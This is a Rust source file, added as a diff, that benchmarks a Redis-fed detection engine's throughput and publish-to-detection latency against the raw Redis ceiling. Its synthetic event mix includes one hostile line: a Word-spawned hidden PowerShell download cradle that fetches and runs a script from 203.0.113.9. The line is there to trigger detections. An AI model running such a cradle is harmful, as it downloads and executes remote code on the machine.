@@ -1,0 +1,525 @@
+//! `palisade bench pipeline`: how fast the whole engine runs from a Redis stream, next to the
+//! ceiling of the same Redis server on the same machine, measured in one run.
+//!
+//! 1. The ceiling: one task `XADD`s in pipelines while another `XREADGROUP`s and `XACK`s in
+//!    batches; events/s until every entry is acknowledged.
+//! 2. palisade: the same producer, and the real engine (shipped rules and playbooks, state in a
+//!    scratch SQLite file, alerts published) consuming through its stream source.
+//! 3. Latency from publish to detection recorded and to action dispatched (alerts out), at full
+//!    load and at half of the measured palisade throughput.
+
+use std::path::Path;
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use redis::aio::MultiplexedConnection;
+use tokio::sync::Notify;
+
+use crate::bus::{Health, Link};
+use crate::config::StreamSourceConfig;
+use crate::content::Content;
+use crate::engine::drive::{CommitProbe, drive_stream};
+use crate::engine::{AlertFormat, Engine, Shutdown};
+use crate::sinks::AlertPublisher;
+use crate::sources::Intake;
+use crate::sources::redis_stream::StreamSource;
+use crate::state::{StateStore, spawn_writer};
+
+/// What to measure.
+#[derive(Debug, Clone)]
+pub struct BenchOptions {
+    pub events: usize,
+    /// One event in this many is malicious (and so produces detections and actions).
+    pub malicious_every: usize,
+    pub redis_url: String,
+}
+
+/// Latency percentiles in milliseconds.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Latency {
+    pub samples: usize,
+    pub p50: f64,
+    pub p99: f64,
+    pub max: f64,
+}
+
+impl Latency {
+    fn of(mut millis: Vec<f64>) -> Latency {
+        if millis.is_empty() {
+            return Latency::default();
+        }
+        millis.sort_by(f64::total_cmp);
+        let at = |q: f64| millis[((millis.len() - 1) as f64 * q).round() as usize];
+        Latency {
+            samples: millis.len(),
+            p50: at(0.50),
+            p99: at(0.99),
+            max: at(1.0),
+        }
+    }
+}
+
+impl std::fmt::Display for Latency {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms ({} samples)",
+            self.p50, self.p99, self.max, self.samples
+        )
+    }
+}
+
+/// One palisade run.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct RunFigures {
+    pub offered_per_second: Option<f64>,
+    pub events_per_second: f64,
+    pub to_recorded: Latency,
+    pub to_dispatched: Latency,
+}
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct BenchReport {
+    pub events: usize,
+    pub detections_per_run: usize,
+    pub ceiling_per_second: f64,
+    pub full: RunFigures,
+    pub half: RunFigures,
+}
+
+impl BenchReport {
+    pub fn ratio(&self) -> f64 {
+        self.full.events_per_second / self.ceiling_per_second.max(1.0)
+    }
+}
+
+impl std::fmt::Display for BenchReport {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        writeln!(
+            f,
+            "events per run: {} ({} detections)",
+            self.events, self.detections_per_run
+        )?;
+        writeln!(
+            f,
+            "redis ceiling (XADD -> XREADGROUP -> XACK): {:>9.0} events/s",
+            self.ceiling_per_second
+        )?;
+        writeln!(
+            f,
+            "palisade, full load:                        {:>9.0} events/s  ({:.0}% of the ceiling)",
+            self.full.events_per_second,
+            self.ratio() * 100.0
+        )?;
+        writeln!(
+            f,
+            "  publish -> detection recorded:  {}",
+            self.full.to_recorded
+        )?;
+        writeln!(
+            f,
+            "  publish -> action dispatched:   {}",
+            self.full.to_dispatched
+        )?;
+        writeln!(
+            f,
+            "palisade, half load ({:.0} events/s offered): {:>9.0} events/s",
+            self.half.offered_per_second.unwrap_or_default(),
+            self.half.events_per_second
+        )?;
+        writeln!(
+            f,
+            "  publish -> detection recorded:  {}",
+            self.half.to_recorded
+        )?;
+        write!(
+            f,
+            "  publish -> action dispatched:   {}",
+            self.half.to_dispatched
+        )
+    }
+}
+
+/// A realistic mix of sensor events: 60% process starts, 25% connections, 10% DNS queries, 5%
+/// logins; one in `malicious_every` is an Office macro starting PowerShell with a download
+/// cradle. Each line holds the placeholder `"@ID@"` for its id.
+pub fn event_mix(count: usize, malicious_every: usize) -> Vec<String> {
+    let programs = [
+        "svchost.exe",
+        "chrome.exe",
+        "explorer.exe",
+        "msedge.exe",
+        "teams.exe",
+        "conhost.exe",
+        "git.exe",
+        "code.exe",
+    ];
+    let parents = ["services.exe", "explorer.exe", "userinit.exe", "chrome.exe"];
+    (0..count)
+        .map(|i| {
+            let h = i % 50;
+            if malicious_every > 0 && i % malicious_every == malicious_every / 2 {
+                return format!(
+                    r#"{{"type":"process_create","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"ppid":4100,"name":"powershell.exe","parent_name":"WINWORD.EXE","cmdline":"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"}}"#,
+                    pid = 1000 + i
+                );
+            }
+            match i % 20 {
+                0..=11 => format!(
+                    r#"{{"type":"process_create","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"ppid":4,"name":"{name}","parent_name":"{parent}","cmdline":"C:\\Program Files\\App\\app.exe --type=renderer","user":"CORP\\u{h}"}}"#,
+                    pid = 1000 + i,
+                    name = programs[i % programs.len()],
+                    parent = parents[i % parents.len()]
+                ),
+                12..=16 => format!(
+                    r#"{{"type":"network_connection","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"name":"chrome.exe","remote_ip":"93.184.{a}.{b}","remote_port":443,"protocol":"tcp"}}"#,
+                    pid = 1000 + i,
+                    a = i % 250,
+                    b = i % 200
+                ),
+                17 | 18 => format!(
+                    r#"{{"type":"dns_query","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"name":"svchost.exe","query_name":"cdn{i}.example.com"}}"#,
+                    pid = 1000 + i
+                ),
+                _ => format!(
+                    r#"{{"type":"login","timestamp":{i},"id":"@ID@","host":"srv-{h}","user":"u{h}","source_ip":"10.0.{h}.7","outcome":"success","method":"ssh-key"}}"#
+                ),
+            }
+        })
+        .collect()
+}
+
+fn now_micros() -> u128 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_micros())
+        .unwrap_or(0)
+}
+
+/// Publishes every line (stamping its id with the send time), in pipelines of `chunk`, at most
+/// `rate` events/s when given.
+async fn produce(
+    mut connection: MultiplexedConnection,
+    stream: String,
+    lines: Arc<Vec<String>>,
+    rate: Option<f64>,
+) -> redis::RedisResult<()> {
+    let chunk = if rate.is_some() { 50 } else { 500 };
+    let started = Instant::now();
+    for (n, batch) in lines.chunks(chunk).enumerate() {
+        if let Some(rate) = rate {
+            let due = started + Duration::from_secs_f64((n * chunk) as f64 / rate);
+            tokio::time::sleep_until(due.into()).await;
+        }
+        let sent = now_micros();
+        let mut pipe = redis::pipe();
+        for (i, line) in batch.iter().enumerate() {
+            let id = format!("b{}-{sent}", n * chunk + i);
+            pipe.cmd("XADD")
+                .arg(&stream)
+                .arg("*")
+                .arg("data")
+                .arg(line.replace("@ID@", &id))
+                .ignore();
+        }
+        pipe.query_async::<()>(&mut connection).await?;
+    }
+    Ok(())
+}
+
+/// Waits until the group has read every one of `total` entries and has none pending.
+async fn wait_drained(
+    connection: &mut MultiplexedConnection,
+    stream: &str,
+    group: &str,
+    total: usize,
+) -> redis::RedisResult<()> {
+    loop {
+        let groups: Vec<redis::Value> = redis::cmd("XINFO")
+            .arg("GROUPS")
+            .arg(stream)
+            .query_async(connection)
+            .await?;
+        let drained = groups.iter().any(|g| {
+            let fields = match g {
+                redis::Value::Map(pairs) => pairs.clone(),
+                redis::Value::Array(items) => items.chunks(2).filter_map(|p| Some((p.first()?.clone(), p.get(1)?.clone()))).collect(),
+                _ => Vec::new(),
+            };
+            let field = |name: &str| {
+                fields.iter().find_map(|(k, v)| match (k, v) {
+                    (redis::Value::BulkString(k), redis::Value::Int(n)) if k == name.as_bytes() => Some(*n),
+                    _ => None,
+                })
+            };
+            let named = fields.iter().any(|(k, v)| {
+                matches!((k, v), (redis::Value::BulkString(k), redis::Value::BulkString(v)) if k == b"name" && v == group.as_bytes())
+            });
+            named && field("entries-read") == Some(total as i64) && field("pending") == Some(0)
+        });
+        if drained {
+            return Ok(());
+        }
+        tokio::time::sleep(Duration::from_millis(5)).await;
+    }
+}
+
+async fn connect(url: &str) -> Result<MultiplexedConnection, String> {
+    let client = redis::Client::open(url).map_err(|e| e.to_string())?;
+    client
+        .get_multiplexed_async_connection_with_config(
+            &redis::AsyncConnectionConfig::new().set_response_timeout(None),
+        )
+        .await
+        .map_err(|e| format!("cannot connect to Redis at `{url}`: {e}"))
+}
+
+async fn fresh_stream(
+    connection: &mut MultiplexedConnection,
+    stream: &str,
+    group: &str,
+) -> redis::RedisResult<()> {
+    let _: () = redis::cmd("DEL")
+        .arg(stream)
+        .query_async(connection)
+        .await?;
+    let _: () = redis::cmd("XGROUP")
+        .arg("CREATE")
+        .arg(stream)
+        .arg(group)
+        .arg("0")
+        .arg("MKSTREAM")
+        .query_async(connection)
+        .await?;
+    Ok(())
+}
+
+/// The raw `XADD` → `XREADGROUP` → `XACK` throughput of the server.
+async fn ceiling(url: &str, lines: &Arc<Vec<String>>) -> Result<f64, String> {
+    let (stream, group) = ("palisade:bench:ceiling", "bench");
+    let mut admin = connect(url).await?;
+    fresh_stream(&mut admin, stream, group)
+        .await
+        .map_err(|e| e.to_string())?;
+    let mut consumer = connect(url).await?;
+    let total = lines.len();
+    let started = Instant::now();
+    let producer = tokio::spawn(produce(
+        connect(url).await?,
+        stream.into(),
+        lines.clone(),
+        None,
+    ));
+    let mut acked = 0usize;
+    while acked < total {
+        let reply: redis::Value = redis::cmd("XREADGROUP")
+            .arg("GROUP")
+            .arg(group)
+            .arg("c1")
+            .arg("COUNT")
+            .arg(500)
+            .arg("BLOCK")
+            .arg(1000)
+            .arg("STREAMS")
+            .arg(stream)
+            .arg(">")
+            .query_async(&mut consumer)
+            .await
+            .map_err(|e| e.to_string())?;
+        let ids = entry_ids(reply);
+        if ids.is_empty() {
+            continue;
+        }
+        let _: () = redis::cmd("XACK")
+            .arg(stream)
+            .arg(group)
+            .arg(&ids)
+            .query_async(&mut consumer)
+            .await
+            .map_err(|e| e.to_string())?;
+        acked += ids.len();
+    }
+    let seconds = started.elapsed().as_secs_f64();
+    producer
+        .await
+        .map_err(|e| e.to_string())?
+        .map_err(|e| e.to_string())?;
+    let _: () = redis::cmd("DEL")
+        .arg(stream)
+        .query_async(&mut admin)
+        .await
+        .map_err(|e| e.to_string())?;
+    Ok(total as f64 / seconds)
+}
+
+fn entry_ids(reply: redis::Value) -> Vec<Vec<u8>> {
+    let mut ids = Vec::new();
+    if let redis::Value::Array(streams) = reply {
+        for stream in streams {
+            if let redis::Value::Array(parts) = stream
+                && let Some(redis::Value::Array(entries)) = parts.into_iter().nth(1)
+            {
+                for entry in entries {
+                    if let redis::Value::Array(fields) = entry
+                        && let Some(redis::Value::BulkString(id)) = fields.into_iter().next()
+                    {
+                        ids.push(id);
+                    }
+                }
+            }
+        }
+    }
+    ids
+}
+
+/// Collects publish-to-commit latencies from the event ids the producer stamped.
+#[derive(Default)]
+struct LatencyProbe {
+    recorded: Vec<f64>,
+    dispatched: Vec<f64>,
+}
+
+fn sent_at(event_id: &str) -> Option<u128> {
+    event_id.rsplit('-').next()?.parse().ok()
+}
+
+impl CommitProbe for LatencyProbe {
+    fn active(&self) -> bool {
+        true
+    }
+    fn recorded(&mut self, event_ids: &[String]) {
+        let now = now_micros();
+        self.recorded.extend(
+            event_ids
+                .iter()
+                .filter_map(|id| sent_at(id))
+                .map(|sent| now.saturating_sub(sent) as f64 / 1000.0),
+        );
+    }
+    fn dispatched(&mut self, event_ids: &[String]) {
+        let now = now_micros();
+        self.dispatched.extend(
+            event_ids
+                .iter()
+                .filter_map(|id| sent_at(id))
+                .map(|sent| now.saturating_sub(sent) as f64 / 1000.0),
+        );
+    }
+}
+
+/// The engine consuming a stream the producer fills, at full speed or at `rate`.
+async fn palisade_run(
+    url: &str,
+    content: &Arc<Content>,
+    state_dir: &Path,
+    lines: &Arc<Vec<String>>,
+    rate: Option<f64>,
+) -> Result<RunFigures, String> {
+    let (stream, group) = ("palisade:bench:events", "palisade");
+    let mut admin = connect(url).await?;
+    fresh_stream(&mut admin, stream, group)
+        .await
+        .map_err(|e| e.to_string())?;
+    let health = Arc::new(Health::default());
+    let store = StateStore::open(&state_dir.join(format!("bench-{}.db", rate.is_some())))
+        .await
+        .map_err(|e| e.to_string())?;
+    let (state, writer) = spawn_writer(store, Arc::new(Notify::new()));
+    let mut alerts = Some(AlertPublisher::new(
+        Link::new(url, "alerts", health.clone())?,
+        &crate::config::AlertsConfig {
+            stream: Some("palisade:bench:alerts".into()),
+            ..Default::default()
+        },
+    ));
+    let mut source = StreamSource::new(
+        Link::new(url, "source", health)?,
+        StreamSourceConfig {
+            stream: stream.into(),
+            group: group.into(),
+            consumer: Some("bench".into()),
+            block_ms: 100,
+            ..Default::default()
+        },
+    );
+    let mut engine = Engine::new(content.clone(), Intake::new(None), AlertFormat::Quiet, true)?;
+    let (trigger, shutdown) = Shutdown::new();
+    let total = lines.len();
+    let started = Instant::now();
+    let producer = tokio::spawn(produce(
+        connect(url).await?,
+        stream.into(),
+        lines.clone(),
+        rate,
+    ));
+    let consumer = tokio::spawn(async move {
+        drive_stream(
+            &mut engine,
+            &mut source,
+            &state,
+            alerts.take(),
+            &shutdown,
+            LatencyProbe::default(),
+        )
+        .await
+    });
+    wait_drained(&mut admin, stream, group, total)
+        .await
+        .map_err(|e| e.to_string())?;
+    let seconds = started.elapsed().as_secs_f64();
+    trigger.trigger();
+    producer
+        .await
+        .map_err(|e| e.to_string())?
+        .map_err(|e| e.to_string())?;
+    let probe = consumer
+        .await
+        .map_err(|e| e.to_string())?
+        .map_err(|e| e.to_string())?;
+    writer
+        .await
+        .map_err(|e| e.to_string())?
+        .map_err(|e| e.to_string())?;
+    let _: () = redis::cmd("DEL")
+        .arg(stream)
+        .arg("palisade:bench:alerts")
+        .query_async(&mut admin)
+        .await
+        .map_err(|e| e.to_string())?;
+    Ok(RunFigures {
+        offered_per_second: rate,
+        events_per_second: total as f64 / seconds,
+        to_recorded: Latency::of(probe.recorded),
+        to_dispatched: Latency::of(probe.dispatched),
+    })
+}
+
+/// Runs the whole benchmark against the Redis server at `options.redis_url`.
+pub async fn pipeline(
+    options: &BenchOptions,
+    content: Arc<Content>,
+    state_dir: &Path,
+) -> Result<BenchReport, String> {
+    let lines = Arc::new(event_mix(options.events, options.malicious_every));
+    tracing::info!(events = options.events, "measuring the Redis ceiling");
+    let ceiling = ceiling(&options.redis_url, &lines).await?;
+    tracing::info!("measuring palisade at full load");
+    let full = palisade_run(&options.redis_url, &content, state_dir, &lines, None).await?;
+    let half_rate = full.events_per_second / 2.0;
+    tracing::info!(rate = half_rate as u64, "measuring palisade at half load");
+    let half = palisade_run(
+        &options.redis_url,
+        &content,
+        state_dir,
+        &lines,
+        Some(half_rate),
+    )
+    .await?;
+    Ok(BenchReport {
+        events: options.events,
+        detections_per_run: full.to_recorded.samples,
+        ceiling_per_second: ceiling,
+        full,
+        half,
+    })
+}
